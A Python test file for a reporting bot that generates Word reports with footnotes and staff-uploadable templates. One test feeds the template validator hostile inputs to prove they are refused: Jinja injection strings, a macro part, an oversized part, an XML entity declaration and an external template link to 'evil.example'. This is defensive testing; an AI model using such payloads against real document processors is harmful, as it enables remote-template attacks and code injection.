"""Reports as Word files: real footnotes, the page of an official paper, templates that staff may change."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.records.activities import Activities, Held
from bot.services.build import ACCOUNT, Services
from bot.services.evidence import evidence_of
from bot.services.report_template import BadTemplate, check_template
from bot.services.reporting import WORDS, file_name, names, reporting_of
from deploy.report_templates import TEMPLATES, make

NOW = datetime(2027, 1, 4, 2, tzinfo=UTC)
NOTES = "word/footnotes.xml"
NAMES = {*names(), *WORDS}


def xml_of(data: bytes, part: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(part).decode()


def text_of(data: bytes) -> str:
    return "\n".join(paragraph.text for paragraph in Document(io.BytesIO(data)).paragraphs)


def with_words(words: str) -> bytes:
    """A plain Word file of one paragraph."""
    out, document = io.BytesIO(), Document()
    document.add_paragraph(words)
    document.save(out)
    return out.getvalue()


def repacked(data: bytes, **parts: bytes) -> bytes:
    """The same file with other parts; ``__`` in a name stands for a slash."""
    out, given_parts = io.BytesIO(), {name.replace("__", "/"): body for name, body in parts.items()}
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in given_parts:
                new.writestr(name, old.read(name))
        for name, body in given_parts.items():
            new.writestr(name, body)
    return out.getvalue()


@pytest.fixture
def held(services: Services) -> Activities:
    """Hand-outs and an activity of 2026."""
    found = Activities(services.engine, account=ACCOUNT)
    day = date(2026, 12, 4)
    found.add(Held("handout", day, "广场", 400, "宪法手册"), form_key="a", author="王专干", now=NOW)
    found.add(Held("activity", day, "广场", 120, "publicity"), form_key="b", author="王专干", now=NOW)
    return found


def test_the_report_says_what_was_done_and_what_is_not_known(services, held):
    desk = reporting_of(services)
    made = desk.make("year", 2026, now=NOW)
    text = text_of(desk.word("year", made, now=NOW))
    assert "组织法治宣传活动1场，到场120人；发放宣传资料400份。" in text
    assert "组织学法测试无记录" in text
    assert "{{" not in text
    assert "\ue001" not in text


def test_each_figure_has_a_footnote_of_word_itself(services, held):
    desk = reporting_of(services)
    data = desk.word("year", desk.make("year", 2026, now=NOW), now=NOW)
    body, notes = xml_of(data, "word/document.xml"), xml_of(data, NOTES)
    placed = body.count("<w:footnoteReference ")
    assert placed > 20
    for number in range(1, placed + 1):
        assert f'<w:footnoteReference w:id="{number}"/>' in body
        assert f'w:id="{number}"' in notes
    assert "发放资料：查询 stats show handouts；期间 2026-01-01 至 2026-12-31（北京时间）" in notes
    assert "footnotes+xml" in xml_of(data, "[Content_Types].xml")


@pytest.mark.parametrize(("kind", "part"), [("year", 1), ("quarter", 4), ("month", 12)])
def test_every_kind_opens_with_the_page_of_an_official_paper(services, kind, part):
    desk = reporting_of(services)
    made = desk.make(kind, 2026, part, now=NOW)
    section = Document(io.BytesIO(desk.word(kind, made, now=NOW))).sections[0]
    page = (section.page_width, section.page_height, section.top_margin, section.left_margin)
    assert [round(length.mm) for length in page] == [210, 297, 37, 28]
    assert file_name(made).endswith(".docx")


def test_the_shipped_files_are_those_of_the_script(services):
    for kind, (title, lines) in TEMPLATES.items():
        shipped = Document(io.BytesIO(reporting_of(services).shipped(kind)))
        assert [paragraph.text for paragraph in shipped.paragraphs] == [
            paragraph.text for paragraph in make(title, lines).paragraphs
        ]


def test_a_template_of_staff_is_used_until_the_shipped_one_is_put_back(services, held):
    desk = reporting_of(services)
    used = desk.put_template("month", with_words("本月发了{{ 发放资料 }}资料"), by="王专干", now=NOW)
    assert used == ("发放资料",)
    data = desk.word("month", desk.make("month", 2026, 12, now=NOW), now=NOW)
    assert "本月发了400份资料" in text_of(data)
    assert "footnoteReference" in xml_of(data, "word/document.xml")
    assert desk.put_back("month", by="王专干", now=NOW + timedelta(minutes=1))
    assert desk.template("month") == desk.shipped("month")


def test_a_name_that_word_cut_into_pieces_is_still_one(services, held):
    out, document = io.BytesIO(), Document()
    paragraph = document.add_paragraph()
    for piece in ("发了{", "{ 发放", "资料 }", "}了"):
        paragraph.add_run(piece).bold = len(piece) % 2 == 0
    document.save(out)
    desk = reporting_of(services)
    desk.put_template("year", out.getvalue(), by="王专干", now=NOW)
    assert "发了400份了" in text_of(desk.word("year", desk.make("year", 2026, now=NOW), now=NOW))


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("{{ 发放资枓 }}", "不认识“发放资枓”"),
        ("{% for a in b %}{{ 镇名 }}{% endfor %}", "不能写条件和循环"),
        ("{{ 镇名.__class__ }}", "不认识“镇名.__class__”"),
        ("{{ 9**9**9 }}", "不认识“9**9**9”"),
        ("{{ 镇名", "不成对"),
        ("{# {{ 镇名 }} #}", "不能写条件和循环"),
    ],
)
def test_what_is_no_plain_name_is_refused_by_its_words(words, said):
    with pytest.raises(BadTemplate, match=re.escape(said)):
        check_template(with_words(words), NAMES)


def test_macros_bombs_declarations_and_links_that_word_fetches_are_refused():
    plain = with_words("{{ 镇名 }}")
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    bad = {
        "宏": repacked(plain, **{"word__vbaProject.bin": b"x"}),
        "太大": repacked(plain, **{"word__big.xml": b"<a>" + b" " * 21 * 1024 * 1024 + b"</a>"}),
        "声明": repacked(plain, **{"word__x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "别处": repacked(plain, **{"word___rels__settings.xml.rels": link}),
        "坏了": plain[: len(plain) // 2],
        "没有选文件": b"",
    }
    for said, data in bad.items():
        with pytest.raises(BadTemplate, match=said):
            check_template(data, NAMES)


@settings(max_examples=20, deadline=None)
@given(st.binary(max_size=300), st.integers(0, 10_000))
def test_whatever_is_uploaded_is_a_template_or_is_told_what_is_wrong(noise, at):
    plain = with_words("{{ 镇名 }}")
    at %= len(plain)
    for data in (noise, plain[:at] + noise + plain[at:]):
        try:
            check_template(data, NAMES)
        except BadTemplate:
            continue


def test_the_evidence_of_a_figure_holds_its_rows_and_their_checksums(services, held):
    made = reporting_of(services).make("year", 2026, now=NOW)
    with evidence_of(services).pack(made, made.figures["发放资料"], by="王专干", now=NOW) as file:
        archive = zipfile.ZipFile(file)
        rows = archive.read("发放资料.csv").decode("utf-8-sig").splitlines()
        assert len(rows) == 2
        assert "宪法手册" in rows[1]
        assert "400份" in archive.read("index.html").decode()
        for line in archive.read("SHA256SUMS").decode().splitlines():
            digest, name = line.split("  ")
            assert hashlib.sha256(archive.read(name)).hexdigest() == digest
    assert services.audit.latest(act="evidence_taken", limit=1)[0].facts["of"] == "发放资料"
